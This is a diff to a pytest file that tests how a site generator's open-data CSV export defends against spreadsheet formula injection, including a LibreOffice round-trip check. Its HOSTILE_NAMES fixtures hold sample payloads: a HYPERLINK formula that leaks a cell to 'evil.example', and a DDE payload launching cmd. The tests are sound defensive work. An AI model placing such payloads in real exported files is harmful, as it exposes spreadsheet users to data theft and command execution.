@@ -6,7 +6,10 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import re
+import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -59,6 +62,8 @@ def test_csvs_match_the_plan(built_sites, name):
         assert [row["Row [ja]"] for row in rows] == [r.label.ja for r in table.rows]
         for row, source in zip(rows, table.rows):
             cells = list(row.values())[len(required_languages()):-1]
+            # A dash the source prints for "none" is text: "-" is written "'-", as every text that could start a formula.
+            cells = [c.removeprefix("'") if c == "'-" else c for c in cells]
             assert [None if c == "" else (c if c in ("-", "―", "—") else float(c)) for c in cells] == [
                 c if isinstance(c, str) or c is None else float(c) for c in source.cells], (table.id, source.label.ja)
 
@@ -114,3 +119,97 @@ def test_every_dataset_points_at_a_file_of_the_site(built_sites, name):
 def test_open_data_is_deterministic():
     plan = load_plan(ALL["graded"]).plan
     assert [(f.path, f.content) for f in open_data_files(plan)] == [(f.path, f.content) for f in open_data_files(plan)]
+
+
+# ── A spreadsheet runs no formula from a pull request, and numbers stay numbers (OWASP CSV injection) ──
+
+_NUMBER = re.compile(r"-?\d+(\.\d+)?")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(content: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.removeprefix(BOM), newline="")))
+
+
+def _text_cells_that_could_run(content: str) -> list[str]:
+    return [cell for row in _cells(content) for cell in row
+            if cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)]
+
+
+def _every_csv_plan() -> dict[str, Path]:
+    progress = ROOT / "tests" / "data" / "progress"
+    return {**PLANS, **{f"progress/{path.name}": path for path in sorted(progress.iterdir()) if path.is_dir()}}
+
+
+@pytest.mark.parametrize("name", sorted(_every_csv_plan()))
+def test_no_text_cell_of_any_csv_begins_with_a_formula_character(name):
+    # Every CSV of the four plans and the test plans; numbers are checked against the plan in test_csvs_match_the_plan.
+    for file in open_data_files(load_plan(_every_csv_plan()[name]).plan):
+        if file.media_type == "text/csv":
+            assert _text_cells_that_could_run(file.content) == [], file.path
+
+
+HOSTILE_NAMES = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
+    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plus": "+1運動の推進",
+    "minus": "-10% waste reduction",
+    "sum": "=1+1",
+}
+# A tab or a carriage return can begin no text: the model strips a text's leading and trailing spaces.
+
+
+def _formula_plan(tmp_path: Path) -> Plan:
+    """The minimal plan with names a spreadsheet would run, and negative numbers in a table."""
+    import yaml
+    plan_dir = tmp_path / "plan"
+    shutil.copytree(ROOT / "tests" / "data" / "minimal", plan_dir)
+    document = yaml.safe_load((plan_dir / "strategy.yaml").read_text(encoding="utf-8"))
+    goal = document["children"][0]
+    goal["targets"][0]["name"] = {"ja": HOSTILE_NAMES["hyperlink"], "en": HOSTILE_NAMES["dde"]}
+    goal["children"][0]["kpis"][0]["name"] = {"ja": HOSTILE_NAMES["plus"], "en": HOSTILE_NAMES["minus"]}
+    goal["children"][0]["projects"][0]["name"] = {"ja": HOSTILE_NAMES["sum"], "en": "\t" + HOSTILE_NAMES["sum"]}
+    goal["tables"] = [{"id": "budget", "title": {"ja": "=予算", "en": "-Budget"}, "row_header": {"ja": "@行", "en": "+Row"},
+                       "columns": [{"fiscal_year": 2021}, {"fiscal_year": 2022}], "unit": "million_yen",
+                       "rows": [{"label": {"ja": "=1+1", "en": "-2+3"}, "cells": [-5, -0.5]},
+                                {"label": {"ja": "差額", "en": "Difference"}, "cells": [12, "-"]}]}]
+    (plan_dir / "strategy.yaml").write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
+    return load_plan(plan_dir).plan
+
+
+def test_names_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(tmp_path):
+    files = {file.path: file.content for file in open_data_files(_formula_plan(tmp_path))}
+    indicators, projects, table = (_cells(files[path]) for path in ("indicators.csv", "projects.csv", "tables/budget.csv"))
+    names = {cell for row in indicators[1:] + projects[1:] for cell in row}
+    for name in HOSTILE_NAMES.values():
+        assert "'" + name in names, name  # shown as written, with the apostrophe that keeps it text
+    assert table[1][:4] == ["'=1+1", "'-2+3", "-5", "-0.5"]  # the label is text; the figures are numbers
+    assert table[2][:4] == ["差額", "Difference", "12", "'-"]
+    for content in files.values():
+        assert _text_cells_that_could_run(content) == []
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None and not os.environ.get("CI"),
+                    reason="no LibreOffice (apt-get install libreoffice-calc-nogui)")
+def test_libreoffice_evaluating_formulas_runs_none_of_them(tmp_path):
+    # LibreOffice opens the CSVs as a clerk's spreadsheet would, with "evaluate formulas" on, and saves them
+    # again: a formula would come back as its result. Every text cell comes back as it was written.
+    sources = {}
+    for file in open_data_files(_formula_plan(tmp_path)):
+        if file.media_type == "text/csv":
+            name = file.path.replace("/", "-")
+            (tmp_path / name).write_text(file.content, encoding="utf-8", newline="")
+            sources[name] = file.content
+    out = tmp_path / "out"
+    # Field separator 44 (,), text delimiter 34 ("), UTF-8 (76), from line 1; "evaluate formulas" (true).
+    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
+                           "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
+                           "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out),
+                           *(str(tmp_path / name) for name in sources)], capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    for name, content in sources.items():
+        written, saved = _cells(content), _cells((out / name).read_text(encoding="utf-8-sig"))
+        for row, back in zip(written, saved):
+            for cell, cell_back in zip(row, back):
+                if not _NUMBER.fullmatch(cell) and cell.strip():
+                    assert cell_back == cell.replace("\r", "").replace("\t", "") or cell_back == cell, (name, cell, cell_back)
